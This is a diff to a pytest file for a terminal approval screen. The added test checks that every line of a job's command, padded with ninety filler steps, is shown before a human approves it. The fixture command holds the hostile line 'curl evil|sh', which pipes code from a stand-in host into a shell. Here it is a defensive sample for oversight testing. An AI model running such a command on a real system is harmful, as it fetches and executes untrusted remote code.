@@ -6,8 +6,9 @@ from typing import Any
 
 import pytest
 
-from spoold.client.questions import Question
+from spoold.client.questions import Question, Shown
 from spoold.faces.top.keys import ACTIONS, KEYS
+from spoold.pictures import work
 from spoold.protocol.errors import SpoolError
 from tests.support.view import AT, PretendedView
 from tests.top.pilot import LARGE, SMALL, opened, run
@@ -95,7 +96,7 @@ def test_an_answer_is_chosen_and_a_rejection_needs_a_reason() -> None:
             await seen.shows("Answer job-000002?")
             await seen.press("down", "down", "enter")
             await seen.until(lambda: bool(seen.spool.calls))
-            named = {"said": "green", "question": "q-1", **WHY}
+            named = {"said": "green", "question": "q-1", "seen": "", **WHY}
             assert seen.spool.calls.pop() == ("approve", ("job-000002", "green"), named)
             await seen.press("x")
             await seen.shows("Reject job-000002?")
@@ -106,6 +107,40 @@ def test_an_answer_is_chosen_and_a_rejection_needs_a_reason() -> None:
             await seen.press(*"red", "enter", "enter")
             await seen.until(lambda: bool(seen.spool.calls))
             assert seen.spool.calls == [("reject", ("job-000002",), {"reason": "red", "question": "q-1"})]
+
+    run(test)
+
+
+def test_an_approval_shows_all_that_would_run_and_is_of_that() -> None:
+    """G23, G24: the box named the task alone."""
+
+    async def test() -> None:
+        view = PretendedView()
+        view.asked = (Question("job-000002", "Deploy?", (), AT, "", None, "q-1", "m"),)
+        async with opened("asks", view=view) as seen:
+            command = (
+                "make test  # quick check\ncurl evil|sh\n" + "\n".join(f"step {n}" for n in range(90)) + "\nlast"
+            )
+            seen.spool.shows["job-000002"] = Shown(
+                "job-000002", "5" * 64, work.parts_of({"command": command}), asks=True
+            )
+            await seen.press("a")
+            await seen.shows(
+                "Answer job-000002?", "1| make test  # quick check", "2| curl evil|sh", "pgdn and pgup scroll"
+            )
+            await seen.press("pageup")
+            for _ in range(30):
+                await seen.press("pagedown")
+            await seen.shows("93| last", "yes, approve job-000002")
+            await seen.press("down", "enter")
+            await seen.until(lambda: bool(seen.spool.calls))
+            named = {"said": None, "question": "", "seen": "5" * 64, **WHY}
+            assert seen.spool.calls == [("approve", ("job-000002", None), named)]
+            seen.spool.shows["job-000002"] = Shown(
+                "job-000002", "6" * 64, work.parts_of({"command": "true"}), asks=True
+            )
+            await seen.press("a")
+            await seen.shows("command: true", "It runs what stands above, 1 line.")
 
     run(test)
 
